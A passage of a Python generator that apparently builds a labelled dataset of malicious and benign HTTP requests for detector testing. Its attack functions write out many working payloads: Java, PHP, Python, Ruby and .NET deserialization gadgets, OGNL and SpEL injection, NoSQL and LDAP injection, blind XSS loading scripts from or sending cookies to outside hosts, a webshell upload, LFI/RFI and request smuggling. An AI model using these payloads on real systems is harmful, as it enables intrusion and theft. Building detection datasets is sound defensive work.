    emit(A, "java-urldns-jsf-viewstate", "java", "POST", "/faces/login.xhtml", "jsf.example.com", [_sess()],
         form([("loginForm", "loginForm"), ("loginForm:user", "a"), ("javax.faces.ViewState", b64(java_urldns(o())))]),
         "application/x-www-form-urlencoded")
    emit(A, "java-urldns-cookie", "java", "GET", "/account", "shop.example.org",
         [["Cookie", "JSESSIONID=" + rstr(32, HEX).upper() + "; userPrefs=" + b64(java_urldns(o()))]])
    emit(A, "java-urldns-json-field", "java", "POST", "/api/session/restore", "app.example.net", [],
         jdump({"state": b64(java_urldns(o())), "v": 2}), "application/json")
    emit(A, "java-cc-sleep-header", "java", "GET", "/remoting/status", "svc.example.com",
         [["X-Session-State", b64(java_cc_sleep(5000))]])
    body = java_cc_sleep(10000)
    raw = (b"POST /invoker/JMXInvokerServlet HTTP/1.1\r\nHost: jboss.example.org\r\nUser-Agent: Java/1.8.0_351\r\n"
           b"Content-Type: application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue\r\n"
           b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)
    emit_raw(A, "java-cc-sleep-jboss-invoker", "java", raw)
    body = java_urldns(o())
    raw = (b"POST /invoker/readonly HTTP/1.1\r\nHost: jboss.example.net\r\nUser-Agent: python-requests/2.28.2\r\n"
           b"Content-Type: application/octet-stream\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    emit_raw(A, "java-urldns-raw-body", "java", raw)
    # XStream, SnakeYAML, Struts/OGNL, Spring, Confluence, JDBC URLs, EL
    emit(A, "xstream-processbuilder-sleep", "java", "POST", "/struts2-rest-showcase/orders/3", "struts.example.com", [],
         "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\">"
         "<target class=\"java.lang.ProcessBuilder\"><command><string>sleep</string><string>5</string></command></target>"
         "<action>start</action></handler></dynamic-proxy></sorted-set>", "application/xml")
    emit(A, "snakeyaml-urlclassloader", "java", "POST", "/api/pipelines/import", "ci.example.org", [],
         "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://%s/yaml-payload.jar\"]\n  ]]\n]\n" % o(),
         "application/x-yaml")
    emit(A, "struts-s2-045-sleep", "java", "POST", "/upload.action", "struts.example.net",
         [["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(@java.lang.Thread@sleep(5000))}"]],
         "x", None)
    emit(A, "struts-s2-057-namespace", "java", "GET",
         "/" + q("${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Thread@sleep(5000))}") + "/actionChain1.action",
         "struts.example.org")
    emit(A, "confluence-ognl-nslookup", "java", "GET",
         "/" + q("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"nslookup %s\").getInputStream(),\"utf-8\"))}" % o()) + "/",
         "wiki.example.com")
    emit(A, "spring-cloud-function-spel", "java", "POST", "/functionRouter", "fn.example.net",
         [["spring.cloud.function.routing-expression", "T(java.lang.Thread).sleep(5000)"]], "data", "text/plain")
    emit(A, "spring4shell-classloader", "java", "POST", "/greeting", "spring.example.com", [],
         form([("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i"),
               ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
               ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
               ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "probe"),
               ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")]),
         "application/x-www-form-urlencoded")
    emit(A, "jdbc-h2-runscript", "java", "POST", "/api/datasources/test", "bi.example.org",
         [["Authorization", "Bearer " + jwt()]],
         jdump({"type": "h2", "url": "jdbc:h2:mem:probe;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://%s/init.sql'" % o(), "user": "sa"}),
         "application/json")
    emit(A, "jdbc-pg-socketfactory", "java", "POST", "/api/connections", "etl.example.net", [],
         jdump({"name": "warehouse", "jdbcUrl": "jdbc:postgresql://db.example.net/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://%s/bean.xml" % o()}),
         "application/json")
    emit(A, "java-el-runtime-exec", "java", "POST", "/faces/profile.xhtml", "jsf.example.net", [_sess()],
         form([("form:nickname", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"nslookup %s\")}" % o())]),
         "application/x-www-form-urlencoded")


def nosqli_attacks():
    emit(A, "mongo-regex-bisect-json", "nosqli", "POST", "/api/login", "app.example.com", [],
         jdump({"username": "admin", "password": {"$regex": "^a"}}), "application/json")
    emit(A, "mongo-regex-bisect-json", "nosqli", "POST", "/api/auth", "shop.example.net", [],
         jdump({"username": {"$gt": ""}, "password": {"$regex": "^7f3.*"}}), "application/json")
    emit(A, "mongo-regex-bisect-form", "nosqli", "POST", "/login", "node.example.org", [],
         "username=admin&password%5B%24regex%5D=%5Ep4.*&submit=Login", "application/x-www-form-urlencoded")
    emit(A, "mongo-regex-length", "nosqli", "GET", "/api/users?user%5B%24ne%5D=x&pass%5B%24regex%5D=%5E.%7B12%7D%24",
         "api.example.com")
    emit(A, "mongo-where-sleep", "nosqli", "POST", "/api/products/search", "catalog.example.com", [],
         jdump({"$where": "sleep(5000) || true"}), "application/json")
    emit(A, "mongo-where-bisect-sleep", "nosqli", "POST", "/api/accounts/find", "bank.example.net", [],
         jdump({"username": "admin", "$where": "this.password.match(/^a.*/) && sleep(5000)"}), "application/json")
    emit(A, "mongo-where-function", "nosqli", "POST", "/graphql", "api.example.org", [],
         jdump({"query": "query($f: JSON){ users(filter: $f){ id } }",
                "variables": {"f": {"$where": "function(){ if(this.password[0]=='a'){ sleep(5000) } return true; }"}}}),
         "application/json")
    emit(A, "mongo-where-string-concat", "nosqli", "GET", "/api/items?category=" + q("x';sleep(5000);var a='"),
         "store.example.org")
    emit(A, "mongo-where-match-break", "nosqli", "GET", "/user/lookup?name=" + q("admin' && this.password.match(/^x/)//"),
         "legacy.example.com")
    emit(A, "mongo-where-query-param", "nosqli", "GET", "/api/orders?id%5B%24where%5D=" + q("sleep(5000)"),
         "orders.example.com")
    emit(A, "mongo-function-expr", "nosqli", "POST", "/api/reports/filter", "reports.example.com", [],
         jdump({"filter": {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}}}),
         "application/json")
    emit(A, "couchdb-mango-regex", "nosqli", "POST", "/_find", "couch.example.net", [],
         jdump({"selector": {"type": "user", "password_sha": {"$regex": "^0a"}}, "fields": ["_id"]}), "application/json")


def ldapi_attacks():
    items = [
        ("ldap-wildcard-bisect", "admin)(userPassword=a*"),
        ("ldap-wildcard-bisect", "*)(|(userPassword=s3*"),
        ("ldap-or-true", "*)(uid=*))(|(uid=*"),
        ("ldap-objectclass", "*)(objectClass=*"),
        ("ldap-description-bisect", "jdoe)(description=pass*"),
        ("ldap-phone-bisect", "*)(telephoneNumber=5*"),
        ("ldap-and-true", "admin)(&)"),
        ("ldap-mail-wildcard", "*)(mail=*@example.com)(|(cn=*"),
    ]
    spots = [
        lambda p, s: emit(A, s, "ldapi", "POST", "/login", "intranet.example.com", [],
                          form([("username", p), ("password", "x")]), "application/x-www-form-urlencoded"),
        lambda p, s: emit(A, s, "ldapi", "GET", "/directory/search?cn=" + q(p), "people.example.org"),
        lambda p, s: emit(A, s, "ldapi", "POST", "/api/directory/lookup", "hr.example.net", [],
                          jdump({"uid": p, "attrs": ["cn", "mail"]}), "application/json"),
    ]
    for i, (slug, p) in enumerate(items):
        spots[i % len(spots)](p, slug)


BXSS = [
    ("bxss-script-src", "\"><script src=https://{OOB}></script>"),
    ("bxss-script-src-protocol-rel", "'\"><script src=//{OOB}/c.js></script>"),
    ("bxss-xsshunter-atob", "\"><input onfocus=eval(atob(this.id)) id=ATOB autofocus>"),
    ("bxss-img-onerror-loader", "<img src=x onerror=\"var s=document.createElement('script');s.src='//{OOB}/x';document.body.appendChild(s)\">"),
    ("bxss-jquery-getscript", "<script>$.getScript(\"//{OOB}/j\")</script>"),
    ("bxss-svg-import", "<svg/onload=import('//{OOB}/m.js')>"),
    ("bxss-fetch-cookie", "<script>fetch('https://{OOB}/?c='+encodeURIComponent(document.cookie))</script>"),
    ("bxss-textarea-breakout", "</textarea><script src=//{OOB}></script>"),
    ("bxss-title-breakout", "</title><script src=//{OOB}/t></script>"),
    ("bxss-iframe-srcdoc", "<iframe srcdoc=\"<script src=//{OOB}/i></script>\"></iframe>"),
    ("bxss-js-string-import", "'-import('//{OOB}/s')-'"),
    ("bxss-javascript-uri", "javascript:eval('var a=document.createElement(\\'script\\');a.src=\\'//{OOB}\\';document.body.appendChild(a)')"),
    ("bxss-new-image-exfil", "<script>new Image().src='https://webhook.site/WHID?d='+btoa(document.domain+document.cookie)</script>"),
    ("bxss-base-href", "<base href=//{OOB}/>"),
    ("bxss-markdown-link", "[view invoice](javascript:fetch('//{OOB}/'+document.cookie))"),
    ("bxss-details-ontoggle", "<details open ontoggle=\"s=document.createElement('script');s.src='//{OOB}';document.head.append(s)\">"),
    ("bxss-video-source", "<video><source onerror=\"import('//{OOB}/v.js')\"></video>"),
    ("bxss-style-import", "<style>@import '//{OOB}/s.css';</style><script src=//{OOB}/x.js></script>"),
    ("bxss-angular-template", "{{constructor.constructor('import(\"//{OOB}/a\")')()}}"),
    ("bxss-object-data", "\"><object data=\"//{OOB}/o.html\"></object>"),
    ("bxss-onmouseover-attr", "\" onmouseover=\"import('//{OOB}/h')\" x=\""),
    ("bxss-xhr-exfil", "<script>x=new XMLHttpRequest;x.open('POST','//{OOB}/c');x.send(document.documentElement.outerHTML)</script>"),
]


def xss_attacks():
    spots = [
        lambda p, s: emit(A, s, "xss", "GET", "/", "www.example.com", [["User-Agent", p]]),
        lambda p, s: emit(A, s, "xss", "GET", "/pricing", "www.example.net", [["Referer", "https://www.example.org/" + p]]),
        lambda p, s: emit(A, s, "xss", "POST", "/support/tickets", "support.example.com", [_sess()],
                          form([("subject", "Cannot download invoice " + p), ("priority", "normal"),
                                ("description", "Hi, the download button does nothing.")]),
                          "application/x-www-form-urlencoded"),
        lambda p, s: emit(A, s, "xss", "POST", "/api/contact", "www.example.org", [],
                          jdump({"name": p, "email": "jo@example.com", "message": "Please call me back."}),
                          "application/json"),
        lambda p, s: emit(A, s, "xss", "POST", "/register", "forum.example.com", [],
                          form([("first_name", p), ("last_name", "Smith"), ("email", "k.smith@example.net"),
                                ("password", "Tr0ub4dor&3")]), "application/x-www-form-urlencoded"),
        lambda p, s: emit(A, s, "xss", "POST", "/checkout/notes", "shop.example.com", [_sess()],
                          jdump({"orderId": "ORD-" + rstr(8, "0123456789"), "deliveryNotes": p}), "application/json"),
        lambda p, s: (lambda b: emit(A, s, "xss", "POST", "/careers/apply", "jobs.example.net", [], b[0], b[1]))(
            multipart([("full_name", "Ann Lee"), ("cover_letter", p), ("cv", "%PDF-1.7\n", "cv.pdf", "application/pdf")])),
        lambda p, s: emit(A, s, "xss", "POST", "/api/v1/errors", "telemetry.example.org", [],
                          jdump({"message": "TypeError", "url": "https://app.example.com/", "userAgent": p}), "application/json"),
        lambda p, s: emit(A, s, "xss", "GET", "/feedback?rating=1&comment=" + q(p), "survey.example.com"),
        lambda p, s: emit(A, s, "xss", "GET", "/login", "admin.example.net", [["X-Forwarded-For", p]]),
        lambda p, s: emit(A, s, "xss", "POST", "/account/address", "shop.example.org", [_sess()],
                          form([("line1", p), ("city", "Lyon"), ("zip", "69002"), ("country", "FR")]),
                          "application/x-www-form-urlencoded"),
    ]
    for i, (slug, payload) in enumerate(BXSS):
        p = oob(payload)
        if "ATOB" in p:
            p = p.replace("ATOB", b64("var a=document.createElement(\"script\");a.src=\"https://%s\";document.body.appendChild(a);" % oast()))
        if "WHID" in p:
            p = p.replace("WHID", ruuid())
        spots[i % len(spots)](p, slug)


def php_attacks():
    o = oast
    emit(A, "php-cgi-argument-injection", "php", "POST",
         "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "win.example.com", [],
         "<?php sleep(5); ?>", "application/x-www-form-urlencoded")
    emit(A, "php-unserialize-laravel", "php", "GET", "/dashboard", "laravel.example.net",
         [["Cookie", "remember_data=" + q('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:7:"sleep 5";}')]])
    cmd = "nslookup x." + o()
    emit(A, "php-unserialize-monolog", "php", "POST", "/api/cart/restore", "shop.example.com", [],
         jdump({"cart": b64('O:37:"Monolog\\Handler\\FingersCrossedHandler":3:{s:16:"\x00*\x00passthruLevel";i:0;s:9:"\x00*\x00buffer";a:1:{s:4:"test";a:2:{i:0;s:%d:"%s";s:5:"level";N;}}s:10:"\x00*\x00handler";O:28:"Monolog\\Handler\\GroupHandler":1:{s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}' % (len(cmd), cmd))}),
         "application/json")
    emit(A, "php-phar-wrapper", "php", "GET", "/image/resize?src=" + q("phar:///var/www/uploads/avatars/7781.jpg/test.txt") + "&w=64",
         "media.example.org")
    emit(A, "php-eval-sleep", "php", "GET", "/index.php?page=" + q("home');sleep(5);//"), "old.example.com")
    emit(A, "php-upload-webshell-dns", "php", "POST", "/wp-admin/async-upload.php", "blog.example.net", [_sess()],
         *multipart([("name", "logo.php"), ("async-upload", "<?php echo shell_exec('nslookup '.get_current_user().'.%s'); ?>" % o(), "logo.php", "image/png")]))


def misc_attacks():
    o = oast
    # CRLF and mail-header injection
    emit(A, "crlf-set-cookie", "crlf", "GET", "/lang?set=en%0d%0aSet-Cookie:%20sessionid=attacker123", "www.example.com")
    emit(A, "crlf-location-oast", "crlf", "GET", "/redirect?to=%2Fhome%0D%0ALocation:%20http://" + o() + "/", "app.example.net")
    emit(A, "crlf-unicode", "crlf", "GET", "/%E5%98%8A%E5%98%8DX-Injected:%20" + o(), "cdn.example.org")
    emit(A, "crlf-mail-bcc", "crlf", "POST", "/contact", "www.example.org", [],
         "name=Jo&email=" + q("jo@example.com\r\nBcc: probe@" + o()) + "&message=hello", "application/x-www-form-urlencoded")
    emit(A, "crlf-header-split-json", "crlf", "POST", "/api/v1/exports", "api.example.com", [],
         jdump({"filename": "report.csv\r\nX-Accel-Redirect: /internal/secrets", "format": "csv"}), "application/json")
    # LFI / RFI with blind oracles and OOB includes
    emit(A, "lfi-filter-chain-oracle", "lfi", "GET", "/index.php?file=" +
         q("php://filter/dechunk|convert.iconv.L1.UCS-4LE|convert.iconv.L1.UCS-4LE|convert.iconv.L1.UCS-4LE|convert.iconv.L1.UCS-4LE|convert.iconv.L1.UCS-4LE/resource=/etc/passwd"),
         "cms.example.com")
    emit(A, "lfi-proc-environ-ua", "lfi", "GET", "/view.php?page=....//....//....//proc/self/environ", "old.example.net",
         [["User-Agent", "<?php sleep(5); ?>"]])
    emit(A, "lfi-win-ini", "lfi", "GET", "/download.aspx?f=..%5c..%5c..%5cwindows%5cwin.ini", "intranet.example.org")
    emit(A, "rfi-oast-include", "rfi", "GET", "/index.php?page=" + q("http://%s/shell.txt?" % o()), "www.example.com")
    emit(A, "rfi-unc-smb", "rfi", "GET", "/index.php?lang=" + q("\\\\%s\\share\\en.php" % o()), "iis.example.net")
    emit(A, "rfi-data-wrapper", "rfi", "POST", "/include.php", "legacy.example.org", [],
         "tpl=" + q("data://text/plain;base64," + b64("<?php sleep(5); ?>")), "application/x-www-form-urlencoded")
    # request smuggling timing probes (raw: exact framing matters)
    emit_raw(A, "smuggling-cl-te-timeout", "protocol",
             "POST / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\nX")
    emit_raw(A, "smuggling-te-cl-timeout", "protocol",
             "POST / HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX")
    emit(A, "smuggling-te-obfuscated", "protocol", "POST", "/", "api.example.org",
         [["Transfer-Encoding", "xchunked"], ["Transfer-Encoding", "chunked"]], "0\r\n\r\nGET /admin HTTP/1.1\r\nX: x",
         "application/x-www-form-urlencoded")
    # OAST scanners (collaborator-everywhere style header spraying, nuclei, sqlmap, commix)
    c = oast("burp")
    emit(A, "scanner-collaborator-everywhere", "scanner", "GET", "/", "www.example.com",
         [["From", "root@" + c], ["Contact", "root@" + c], ["X-Wap-Profile", "http://" + c + "/wap.xml"],
          ["True-Client-IP", "spoofed." + c], ["X-Forwarded-For", "spoofed." + c], ["X-Real-IP", "spoofed." + c],
          ["Forwarded", "for=spoofed.%s;by=spoofed.%s;host=spoofed.%s" % (c, c, c)], ["Referer", "http://" + c + "/ref"]])
    c = oast("interactsh")
    emit(A, "scanner-nuclei-oast", "scanner", "GET", "/?url=http://" + c + "&redirect=http://" + c, "api.example.net",
         [["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Safari/537.36"],
          ["X-Forwarded-Host", c], ["X-Originating-IP", c], ["X-Client-IP", c]])
    emit(A, "scanner-sqlmap-time", "scanner", "GET", "/item.php?id=" + qp("1 AND (SELECT 2146 FROM (SELECT(SLEEP(5)))vPxR)"),
         "shop.example.com", [["User-Agent", "sqlmap/1.8.4#stable (https://sqlmap.org)"]])
    emit(A, "scanner-commix-time", "scanner", "POST", "/ping.php", "netadmin.example.org",
         [["User-Agent", "commix/v3.9-stable (https://commixproject.com)"]],
         "addr=" + q("127.0.0.1;str=$(echo AXYJMB);str1=${#str};if [ 6 -ne ${str1} ];then sleep 0;else sleep 4;fi "),
         "application/x-www-form-urlencoded")
    emit(A, "scanner-acunetix-bxss", "scanner", "GET", "/search?q=" + q("'\"()&%<zzz><ScRiPt >import('//" + rstr(10) + ".bxss.me')</ScRiPt>"),
         "www.example.org", [["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"],
                             ["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Queries", "filelist;aspectalerts"]])
    emit(A, "scanner-invicti-oob", "scanner", "GET", "/profile?avatar=" + q("http://" + rstr(26) + ".r87.me/"), "app.example.com",
         [["User-Agent", "Mozilla/5.0 (compatible; Netsparker)"], ["X-Scanner", "Netsparker"]])
    emit(A, "scanner-zap-oast", "scanner", "GET", "/api/fetch?u=" + q("http://" + oast("interactsh2") + "/zap"), "api.example.com",
         [["User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"],
          ["X-ZAP-Scan-ID", str(RNG.randint(1, 99))]])
    emit(A, "scanner-interactsh-ua", "scanner", "GET", "/robots.txt", "www.example.net",
         [["User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"], ["Referer", "http://" + oast("interactsh")]])


def generic_attacks():
    o = oast
    emit(A, "dotnet-typename-objectdataprovider", "generic", "POST", "/api/settings/import", "crm.example.com", [],
         jdump({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                "MethodName": "Start",
                "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib",
                                     "$values": ["cmd", "/c ping -n 10 127.0.0.1"]},
                "ObjectInstance": {"$type": "System.Diagnostics.Process, System"}}), "application/json")
    emit(A, "dotnet-viewstate-ysoserial", "generic", "POST", "/default.aspx", "portal.example.net", [],
         form([("__VIEWSTATE", "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvciwgVmVyc2lvbj0zLjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPTMxYmYzODU2YWQzNjRlMzUFAQAAAEJNaWNyb3NvZnQuVmlzdWFsU3R1ZGlvLlRleHQuRm9ybWF0dGluZy5UZXh0Rm9ybWF0dGluZ1J1blByb3BlcnRpZXMBAAAAD0ZvcmVncm91bmRCcnVzaAECAAAABgMAAADmBTw/eG1sIHZlcnNpb249IjEuMCIgZW5jb2Rpbmc9InV0Zi04Ij8+DQo8T2JqZWN0RGF0YVByb3ZpZGVyIE1ldGhvZE5hbWU9IlN0YXJ0IiBJc0luaXRpYWxMb2FkRW5hYmxlZD0iRmFsc2UiIHhtbG5zPSJodHRwOi8vc2NoZW1hcy5taWNyb3NvZnQuY29tL3dpbmZ4LzIwMDYveGFtbC9wcmVzZW50YXRpb24iIHhtbG5zOnNkPSJjbHItbmFtZXNwYWNlOlN5c3RlbS5EaWFnbm9zdGljczthc3NlbWJseT1TeXN0ZW0iIHhtbG5zOng9Imh0dHA6Ly9zY2hlbWFzLm1pY3Jvc29mdC5jb20vd2luZngvMjAwNi94YW1sIj48T2JqZWN0RGF0YVByb3ZpZGVyLk9iamVjdEluc3RhbmNlPjxzZDpQcm9jZXNzPjxzZDpQcm9jZXNzLlN0YXJ0SW5mbz48c2Q6UHJvY2Vzc1N0YXJ0SW5mbyBBcmd1bWVudHM9Ii9jIHBpbmcgLW4gMTAgMTI3LjAuMC4xIiBGaWxlTmFtZT0iY21kIi8+PC9zZDpQcm9jZXNzLlN0YXJ0SW5mbz48L3NkOlByb2Nlc3M+PC9PYmplY3REYXRhUHJvdmlkZXIuT2JqZWN0SW5zdGFuY2U+PC9PYmplY3REYXRhUHJvdmlkZXI+Cws="),
               ("__VIEWSTATEGENERATOR", "CA0B0334"), ("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")]),
         "application/x-www-form-urlencoded")
    emit(A, "python-pickle-cookie", "generic", "GET", "/dashboard", "flask.example.org",
         [["Cookie", "session_data=" + b64(b"cposix\nsystem\n(S'nslookup " + o().encode() + b"'\ntR.")]])
    emit(A, "python-pickle-sleep-body", "generic", "POST", "/api/model/load", "ml.example.net", [],
         jdump({"weights": b64(b"\x80\x04\x95\x22\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x07sleep 5\x94\x85\x94R\x94.")}),
         "application/json")
    emit(A, "ruby-yaml-gem-installer", "generic", "POST", "/api/imports", "rails.example.com", [],
         "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\n"
         "requirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
         "       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n"
         "           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n"
         "           git_set: sleep 5\n       method_id: :resolve\n", "application/x-yaml")
    emit(A, "node-serialize-iife", "generic", "GET", "/", "node.example.net",
         [["Cookie", "profile=" + b64('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'nslookup %s\')}()"}' % o())]])
    emit(A, "node-proto-pollution-node-options", "generic", "POST", "/api/settings", "node.example.com", [],
         jdump({"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('sleep 5').toString())//",
                              "NODE_OPTIONS": "--require /proc/self/cmdline"}}), "application/json")


def gen_attacks():
    sqli_attacks()
    rce_attacks()
    xxe_attacks()
    ssrf_attacks()
    ssti_attacks()
    java_attacks()
    nosqli_attacks()
    ldapi_attacks()
    xss_attacks()
    php_attacks()
    misc_attacks()
    generic_attacks()


# --------------------------------------------------------------------------
# benign
# --------------------------------------------------------------------------

B = "benign"
DEV = "dev-content"


def bcookie():
    parts = ["_ga=GA1.2.%d.%d" % (RNG.randint(10**8, 10**9), 1700000000 + RNG.randint(0, 10**7))]
    if RNG.random() < 0.6:
        parts.append(cookie_session())
    if RNG.random() < 0.4:
        parts.append("csrftoken=" + rstr(32))
    if RNG.random() < 0.3:
        parts.append("consent=" + RNG.choice(["all", "necessary", "analytics%2Cmarketing"]))
    return ["Cookie", "; ".join(parts)]


def web_post(host, path):
    return [["Origin", "https://" + host], ["Referer", "https://" + host + path], bcookie()]


def api_auth():
    h = [["Authorization", "Bearer " + jwt()]]
    if RNG.random() < 0.5:
        h.append(["X-Request-ID", ruuid()])
    return h


def xhr(host, path):
    return [["X-Requested-With", "XMLHttpRequest"], ["Referer", "https://" + host + path], bcookie()]


def b_get(slug, host, path, params=None, headers=None, cat="benign", profile=None):
    uri = path + ("?" + form(params) if params else "")
    return emit(B, slug, cat, "GET", uri, host, headers or [bcookie()], profile=profile)


def b_json(slug, host, path, obj, method="POST", headers=None, cat="benign", pretty=False):
    return emit(B, slug, cat, method, path, host, headers if headers is not None else api_auth(),
                jdump(obj, not pretty), "application/json", profile="api")


def b_form(slug, host, path, pairs, headers=None, cat="benign"):
    return emit(B, slug, cat, "POST", path, host, headers if headers is not None else web_post(host, path),
                form(pairs), "application/x-www-form-urlencoded", profile="browser")


def b_multi(slug, host, path, parts, headers=None, cat="benign"):
    body, ct = multipart(parts)
    return emit(B, slug, cat, "POST", path, host, headers if headers is not None else web_post(host, path),
                body, ct, profile="browser")


def day(m=None, d=None):
    return "2024-%02d-%02d" % (m or RNG.randint(1, 12), d or RNG.randint(1, 28))


SLEEP_NOTES = [
    "Slept 7h 40m, woke up once around 3am. Feeling rested.",
    "sleep(8h) goal reached again! Third night in a row.",
    "Coffee after 4pm = bad idea. Took 45 min to fall asleep.",
    "Deep sleep was short, maybe because of the late workout.",
    "Nap 20 min after lunch, then slept badly at night.",
    "Woke up at 5:30 with the baby, went back to sleep until 7.",
    "Melatonin 0.5 mg at 22:00, asleep by 22:40.",
    "J'ai mal dormi, trop chaud dans la chambre. Réveil à 4h.",
    "Schlaf war unruhig, zweimal aufgewacht. Morgen früher ins Bett.",
    "Dormí 6 horas, me desperté cansado. Mucho estrés en el trabajo.",
    "Dormi muito bem, 8h seguidas sem acordar.",
    "昨夜は7時間寝ました。途中で一度目が覚めました。",
    "睡眠时间不足六小时，明天要早点睡。",
    "Спал плохо, проснулся в 4 утра и не смог уснуть.",
    "Ho dormito 7 ore, sonno leggero verso mattina.",
    "Slaap was prima, 7,5 uur. Wekker om 6:45.",
    "Uyku kalitesi iyi, 8 saat uyudum.",
    "Jet lag: slept from 2am to 11am local time (UTC+9).",
    "Snoring detected 14 times, partner says it was quieter than last week.",
    "Bedtime routine: no screens after 21:30, read 20 pages, lights out 22:15.",
]


def benign_sleep():
    h = "sleep.example.com"
    for i in range(14):
        start = "2024-%02d-%02dT%02d:%02d:00%s" % (RNG.randint(1, 12), RNG.randint(1, 28), RNG.choice([21, 22, 23, 0, 1]),
                                                  RNG.randint(0, 59), RNG.choice(["Z", "+02:00", "-05:00", "+09:00"]))
        mins = RNG.randint(300, 560)
        b_json("sleep-session", "api." + h, "/v2/sleep/sessions", {
            "start": start, "duration_minutes": mins, "sleep_latency_min": RNG.randint(3, 50),
            "stages": {"deep": RNG.randint(40, 120), "rem": RNG.randint(60, 130), "light": RNG.randint(150, 280), "awake": RNG.randint(5, 40)},
            "wake_count": RNG.randint(0, 5), "quality": RNG.randint(1, 5), "notes": RNG.choice(SLEEP_NOTES),
            "source": RNG.choice(["watch", "phone", "manual", "ring"]), "device_id": ruuid()},
            headers=api_auth() + [["X-App-Version", "5.%d.%d" % (RNG.randint(0, 9), RNG.randint(0, 20))]])
    for i in range(6):
        b_get("sleep-summary", "api." + h, "/v2/sleep/summary",
              [("from", day(5, RNG.randint(1, 14))), ("to", day(5, RNG.randint(15, 28))), ("tz", RNG.choice(["Europe/Paris", "America/New_York", "Asia/Tokyo", "UTC"])),
               ("granularity", RNG.choice(["day", "week", "month"])), ("metrics", "duration,latency,efficiency")],
              headers=api_auth(), profile="api")
    goals = [("goal_hours", "8"), ("bedtime", "22:30"), ("wake_time", "06:30"), ("smart_alarm_window", "30"),
             ("wind_down_reminder", "45"), ("snooze_minutes", "9")]
    for i in range(5):
        pairs = RNG.sample(goals, 4) + [("csrfmiddlewaretoken", rstr(64)), ("note", RNG.choice(["Sleep 8h, wake at 6:30", "wait 10 min before alarm", "sleep timer: 30 min of rain sounds"]))]
        b_form("sleep-goals", "www." + h, "/settings/sleep-goals/", pairs)
    for i in range(4):
        b_json("sleep-diary", "api." + h, "/v2/diary/entries", {
            "date": day(), "mood": RNG.choice(["tired", "ok", "great"]), "caffeine_mg": RNG.choice([0, 80, 160, 240]),
            "alcohol_units": RNG.choice([0, 0, 1, 2]), "text": RNG.choice(SLEEP_NOTES),
            "tags": RNG.sample(["stress", "travel", "exercise", "late-meal", "screen-time", "nap"], 2)}, method="PUT")
    csv = "date,bedtime,waketime,duration_h,quality\n" + "\n".join(
